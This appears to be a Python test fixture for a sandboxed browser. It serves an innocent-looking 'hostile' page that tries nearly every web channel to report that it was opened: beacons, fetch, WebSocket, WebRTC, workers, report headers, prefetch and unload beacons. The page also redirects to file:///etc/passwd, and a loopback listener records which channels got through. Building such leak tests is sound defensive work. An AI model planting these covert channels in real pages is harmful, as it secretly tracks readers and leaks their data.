"""A page that tries every way a page has to tell somebody that it was opened, and the listener that would hear it."""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Mapping

from tests.world.replies import Reply, Request
from tests.world.site import Page, Site, html, script

HOST = "hostile.example"
WORDS = "This page looks like any other. It is about the events of that spring, and it is longer than it need be. " * 4


class Sink:
    """Hears whatever comes to its TCP or its UDP port on loopback, and remembers how it began."""

    def __enter__(self) -> Sink:
        self.messages: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.tcp, self.udp = self._tcp.getsockname()[1], self._udp.getsockname()[1]
        for listen in (self._hear_tcp, self._hear_udp):
            threading.Thread(target=listen, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._tcp.close()
        self._udp.close()

    def kinds(self) -> set[str]:
        """The ways in which it was reached: the first word of each path, `udp`, `tcp` for what said nothing."""
        return set(self.messages)

    def _hear_tcp(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                threading.Thread(target=self._hear_one, args=(connection,), daemon=True).start()

    def _hear_one(self, connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            connection.settimeout(3)
            said = b""
            with contextlib.suppress(TimeoutError):
                said = connection.recv(2000)
            if b" /" not in said[:20]:
                self.messages.append("tcp")
                return
            self.messages.append(said.split(b" ")[1].decode("latin-1").strip("/").partition("?")[0])
            connection.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")

    def _hear_udp(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                self._udp.recv(2000)
                self.messages.append("udp")


PAGE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>An ordinary page</title>
<link rel="dns-prefetch" href="//tell.by.name.invalid"><link rel="preconnect" href="{sink}" crossorigin>
<link rel="preload" as="image" href="{sink}/preload"><link rel="prefetch" href="{sink}/prefetch">
<link rel="modulepreload" href="{sink}/modulepreload"><link rel="icon" href="{sink}/icon">
<link rel="stylesheet" href="{sink}/style"><link rel="prerender" href="{sink}/prerender">
<script type="speculationrules">{{"prefetch":[{{"urls":["{sink}/speculation"],"eagerness":"immediate"}}],
"prerender":[{{"urls":["/speculated"],"eagerness":"immediate"}}]}}</script>
<style>@import url("{sink}/import"); @font-face{{font-family:t;src:url("{sink}/font")}} p{{font-family:t}}
body{{background:url("{sink}/background")}}</style>
<meta http-equiv="refresh" content="1;url=file:///etc/passwd"></head>
<body><h1>An ordinary page</h1><p>{words}</p>
<img src="{sink}/image" alt=""><iframe src="{sink}/frame"></iframe><object data="{sink}/object"></object>
<embed src="{sink}/embed"><video src="{sink}/video" autoplay muted></video><audio src="{sink}/audio" autoplay></audio>
<svg><image href="{sink}/svg"/></svg><script src="{sink}/script"></script>
<form id="form" action="{sink}/form" method="post" target="into"><input name="reader" value="is here"></form>
<iframe name="into"></iframe><a id="ping" href="#here" ping="{sink}/ping">here</a>
<a id="download" download="it.bin" href="{sink}/download">it</a>
<script>
const sink = "{sink}", host = "127.0.0.1:{tcp}", datagram = "127.0.0.1:{udp}";
const tried = f => {{ try {{ const p = f(); if (p && p.catch) p.catch(() => 0); }} catch (e) {{}} }};
tried(() => navigator.sendBeacon(sink + "/beacon", "here"));
tried(() => fetch(sink + "/fetch", {{mode: "no-cors"}}));
tried(() => fetch(sink + "/keepalive", {{mode: "no-cors", keepalive: true, method: "POST", body: "x"}}));
tried(() => {{ const x = new XMLHttpRequest(); x.open("GET", sink + "/xhr"); x.send(); }});
tried(() => new WebSocket("ws://" + host + "/socket"));
tried(() => new EventSource(sink + "/events"));
tried(() => new WebTransport("https://" + datagram + "/transport").ready);
const call = scope => {{ const peer = new scope.RTCPeerConnection({{iceServers: [{{urls: "stun:" + datagram}},
  {{urls: "turn:" + host + "?transport=tcp", username: "a", credential: "b"}},
  {{urls: "turn:" + datagram, username: "a", credential: "b"}}]}});
  peer.createDataChannel("x"); return peer.createOffer().then(offer => peer.setLocalDescription(offer)); }};
tried(() => call(window));
tried(() => {{ const frame = document.createElement("iframe"); document.body.append(frame);
  tried(() => call(frame.contentWindow)); tried(() => frame.contentWindow.fetch(sink + "/blank", {{mode: "no-cors"}})); }});
tried(() => {{ const frame = document.createElement("iframe");
  frame.srcdoc = "<img src='{sink}/srcdoc'><script>new WebSocket('ws://127.0.0.1:{tcp}/srcdocsocket')</" + "script>";
  document.body.append(frame); }});
tried(() => {{ const frame = document.createElement("iframe"); frame.sandbox = "allow-scripts";
  frame.src = "data:text/html,<img src='{sink}/dataframe'>"; document.body.append(frame); }});
tried(() => new Worker("/worker.js"));
tried(() => new SharedWorker("/shared.js"));
tried(() => navigator.serviceWorker.register("/service.js"));
tried(() => ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "/service.js"));
tried(() => window.open(sink + "/window"));
tried(() => document.getElementById("form").submit());
tried(() => document.getElementById("ping").click());
tried(() => document.getElementById("download").click());
tried(() => new Audio(sink + "/sound").play());
tried(() => import(sink + "/module"));
tried(() => caches.open("x").then(cache => cache.add(sink + "/cache")));
tried(() => new PaymentRequest([{{supportedMethods: sink + "/payment"}}], {{total: {{label: "x",
  amount: {{currency: "EUR", value: "1"}}}}}}).canMakePayment());
addEventListener("pagehide", () => navigator.sendBeacon(sink + "/leaving", "gone"));
addEventListener("visibilitychange", () => navigator.sendBeacon(sink + "/hiding", "gone"));
</script></body></html>"""

WORKER = """fetch("{sink}/{name}", {{mode: "no-cors"}}).catch(() => 0);
try {{ new WebSocket("ws://{host}/{name}socket"); }} catch (e) {{}}
try {{ importScripts("{sink}/{name}import"); }} catch (e) {{}}"""


class Hostile(Site):
    """Plays the page against one sink."""

    hosts = (HOST,)

    def __init__(self, sink: Sink) -> None:
        super().__init__()
        self._at = {"sink": f"http://127.0.0.1:{sink.tcp}", "host": f"127.0.0.1:{sink.tcp}"}
        self._at |= {"tcp": str(sink.tcp), "udp": str(sink.udp), "words": WORDS}

    def pages(self, host: str) -> Mapping[str, Page]:
        at = self._at
        policy = f"default-src * 'unsafe-inline' 'unsafe-eval' data: blob:; object-src 'none'; report-uri {at['sink']}/report"
        observed = (
            ("Content-Security-Policy-Report-Only", policy),
            ("Report-To", f'{{"group":"r","max_age":9,"endpoints":[{{"url":"{at["sink"]}/reportto"}}]}}'),
            ("NEL", '{"report_to":"r","max_age":9,"success_fraction":1.0,"include_subdomains":true}'),
            ("Link", f"<{at['sink']}/header>; rel=preload; as=image"),
        )
        return {
            "/": html(PAGE.format(**at), headers=observed),
            **{f"/{name}.js": script(WORKER.format(name=name, **at)) for name in ("worker", "shared", "service")},
            "/speculated": html(f'<!DOCTYPE html><img src="{at["sink"]}/speculated">'),
        }

    def not_found(self, request: Request) -> Reply:
        return html("<!DOCTYPE html><title>404</title><h1>Not Found</h1>", status=404)
